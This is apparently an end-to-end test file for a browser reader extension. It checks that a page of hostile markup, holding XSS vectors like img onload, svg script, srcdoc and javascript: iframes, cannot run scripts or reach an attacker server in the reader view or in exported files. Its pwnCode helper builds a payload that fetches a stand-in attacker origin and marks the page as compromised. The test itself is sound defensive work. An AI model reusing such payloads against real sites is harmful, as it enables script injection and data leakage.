/**
 * End to end in real Chromium with the built extension: a page full of hostile markup (test/fixtures/hostile) is
 * opened in the reader (removed pieces shown too) and in every export opened as a page. Nothing of it may run (no
 * dialog, no "PWNED" on the console, no window.__pwned) and no request may leave for the attacker's origin, also
 * when the user clicks the article's links and buttons; the article's text is all there.
 *   npm run build --silent && node --import tsx --test test/e2e/hostile-markup.test.ts
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { EXPORT_FORMATS, downloadExport, type ExportFormat } from './export-download';
import { launchWithExtension, openReaderFor, ROOT, startServer, type Launched, type StaticServer } from './harness';

const T = { timeout: 180_000 };
const CORPUS = join(ROOT, 'test/fixtures/hostile');
/** Sentences of the article that must reach the reader and the exports whole. */
const ARTICLE = [
  'For eight hundred years the estuary\'s tidal mills ground grain twice a day',
  'The largest of them, at the river mouth, had four wheels',
  'The museum keeps the last miller\'s tools',
  'In the archive the mills\' ledgers sit beside the harbour\'s',
  'The last tidal mill stopped working commercially in 1957',
];

/** The attacker's server: answers 204 to everything (a refresh to it leaves a page where it was) and logs each hit. */
async function attackerServer(): Promise<{ origin: string; hits: { url: string; referer: string }[]; close(): Promise<void> }> {
  const hits: { url: string; referer: string }[] = [];
  const server: Server = createServer((req, res) => {
    hits.push({ url: req.url ?? '', referer: String(req.headers.referer ?? '') });
    res.writeHead(204, { 'access-control-allow-origin': '*' });
    res.end();
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', () => ok()));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { origin, hits, close: () => new Promise((ok) => server.close(() => ok())) };
}

/** What running a vector does, with no spaces (it also sits in unquoted attributes). */
function pwnCode(attacker: string, name: string): string {
  return `fetch('${attacker}/hit/${name}?in='+location.protocol);console.log('PWNED','${name}');(window.__pwned=window.__pwned||[]).push('${name}')`;
}

/** Everything a page did that it must not: dialogs, PWNED console lines, window.__pwned, requests to the attacker. */
function watch(page: Page, attacker: string) {
  const seen: string[] = [];
  page.on('dialog', (d) => {
    seen.push(`dialog: ${d.message()}`);
    void d.dismiss().catch(() => {});
  });
  page.on('console', (m) => {
    if (m.text().includes('PWNED')) seen.push(`console: ${m.text()}`);
  });
  page.on('request', (r) => {
    if (r.url().startsWith(attacker) || /^javascript:/i.test(r.url())) seen.push(`request: ${r.url()}`);
  });
  return {
    seen,
    async flags(): Promise<string[]> {
      const pwned = await page.evaluate(() => (window as { __pwned?: string[] }).__pwned ?? []).catch(() => [] as string[]);
      return [...seen, ...pwned.map((n) => `ran: ${n}`)];
    },
  };
}

/** Clicks what a reader would: every link that is not to a web address, every button and input in `scope`. */
async function clickEverything(page: Page, scope: string): Promise<void> {
  const targets = page.locator(`${scope} a:not([href^="http:"]):not([href^="https:"]), ${scope} button, ${scope} input, ${scope} summary`);
  const count = await targets.count();
  for (let i = 0; i < count; i++) {
    await targets.nth(i).click({ timeout: 2_000, force: true, noWaitAfter: true }).catch(() => {});
  }
  // Hover and focus every element that might carry a handler.
  const all = page.locator(`${scope} *`);
  const n = Math.min(await all.count(), 300);
  for (let i = 0; i < n; i++) await all.nth(i).hover({ timeout: 500, force: true }).catch(() => {});
}

describe('hostile markup', () => {
  let browser: Launched;
  let server: StaticServer;
  let attacker: Awaited<ReturnType<typeof attackerServer>>;
  let exportDir: string;
  let pagesDir: string;

  before(async () => {
    attacker = await attackerServer();
    pagesDir = mkdtempSync(join(tmpdir(), 'pith-hostile-pages-'));
    server = await startServer(pagesDir); // reads files per request: the page is written once its origin is known
    const html = readFileSync(join(CORPUS, 'article.html'), 'utf8')
      .replace(/PWN\('([\w-]+)'\)/g, (_, name: string) => pwnCode(attacker.origin, name))
      .replaceAll('ATTACKER', attacker.origin)
      .replaceAll('SOURCE', server.origin);
    writeFileSync(join(pagesDir, 'article.html'), html);
    browser = await launchWithExtension();
    exportDir = mkdtempSync(join(tmpdir(), 'pith-hostile-'));
  });

  after(async () => {
    await browser?.close();
    await server?.close();
    await attacker?.close();
    for (const dir of [exportDir, pagesDir]) if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /**
   * Hits on the attacker that did not come from the hostile page itself (its own scripts run in its own tab and its
   * frames): a vector's hit names the scheme it ran under (the page http:, its frames about:; the reader would be
   * chrome-extension:, an export file:); a plain load (CSS, media) names its page in the referer.
   */
  const leaks = () =>
    attacker.hits
      .filter((h) => {
        const ranIn = new URL(h.url, 'http://x').searchParams.get('in');
        return ranIn !== null ? ranIn !== 'http:' && ranIn !== 'about:' : !h.referer.startsWith(server.origin);
      })
      .map((h) => `${h.url} (referer ${h.referer || 'none'})`);

  test('the corpus is live: opened as a page itself, its vectors run and reach the attacker', T, async () => {
    const page = await browser.context.newPage();
    const watcher = watch(page, attacker.origin);
    try {
      await page.goto(server.url('/article.html'), { waitUntil: 'load' });
      await page.waitForTimeout(1_000);
      const flags = (await watcher.flags()).join('\n');
      for (const vector of ['img-onload', 'svg-script', 'srcdoc', 'iframe-js-src', 'details-ontoggle']) assert.match(flags, new RegExp(`PWNED ${vector}`), flags);
      assert.match(flags, /request: .*\/hit\/css-style-attr/);
    } finally {
      await page.close();
    }
  });

  test('nothing runs or loads in the reader, with removed pieces shown, when its links and buttons are clicked', T, async () => {
    const session = await openReaderFor(browser, server.url('/article.html'), { timeout: 90_000 });
    const watcher = watch(session.reader, attacker.origin);
    try {
      assert.equal(session.outcome, 'article');
      const text = await session.reader.$eval('#pith-article', (el) => (el as HTMLElement).innerText.replace(/\s+/g, ' '));
      for (const sentence of ARTICLE) assert.ok(text.includes(sentence), `missing "${sentence}": ${text}`);
      await session.reader.locator('#pith-show-removed').check();
      await clickEverything(session.reader, '#pith-article');
      await session.reader.waitForTimeout(1_500);
      assert.deepEqual(await watcher.flags(), []);
      assert.ok(session.reader.url().includes('/reader.html'), `the reader navigated away: ${session.reader.url()}`);
      // The page's ids never clobber the reader's own elements.
      const clobbered = await session.reader.evaluate(() =>
        ['pith-title', 'pith-error', 'pith-article', '__pith'].map((id) => `${id}: ${document.querySelectorAll(`[id="${id}"], [name="${id}"]`).length}`),
      );
      assert.deepEqual(clobbered, ['pith-title: 1', 'pith-error: 0', 'pith-article: 1', '__pith: 0']);
      assert.equal(await session.reader.evaluate(() => typeof document.getElementById), 'function');
      assert.equal(await session.reader.locator('#pith-article base, #pith-article meta, #pith-article link, #pith-article form, #pith-article iframe, #pith-article object, #pith-article embed, #pith-article script, #pith-article style').count(), 0);
      assert.deepEqual(leaks(), []);
    } finally {
      await session.close();
    }
  });

  test('nothing runs or loads in any export opened as a page', T, async () => {
    const session = await openReaderFor(browser, server.url('/article.html'), { timeout: 90_000 });
    try {
      assert.equal(session.outcome, 'article');
      await session.reader.locator('#pith-export-summary').check().catch(() => {});
      const files: Record<ExportFormat, string> = { md: 'md', html: 'html', text: 'txt', json: 'json' };
      for (const format of EXPORT_FORMATS) {
        const content = await downloadExport(session.reader, format);
        for (const sentence of ARTICLE.slice(0, 2)) assert.ok(content.includes(sentence.replace(/'/g, format === 'html' ? '&#39;' : "'")) || content.includes(sentence), `${format} export lacks "${sentence}"`);
        const file = join(exportDir, `article.${files[format]}`);
        writeFileSync(file, content);
        const page = await browser.context.newPage();
        const watcher = watch(page, attacker.origin);
        try {
          await page.goto(pathToFileURL(file).href, { waitUntil: 'load' });
          await clickEverything(page, 'body');
          await page.waitForTimeout(1_500);
          assert.deepEqual(await watcher.flags(), [], `${format} export`);
          assert.ok(page.url().startsWith('file:'), `the ${format} export navigated away: ${page.url()}`);
        } finally {
          await page.close();
        }
      }
      assert.deepEqual(leaks(), []);
    } finally {
      await session.close();
    }
  });
});
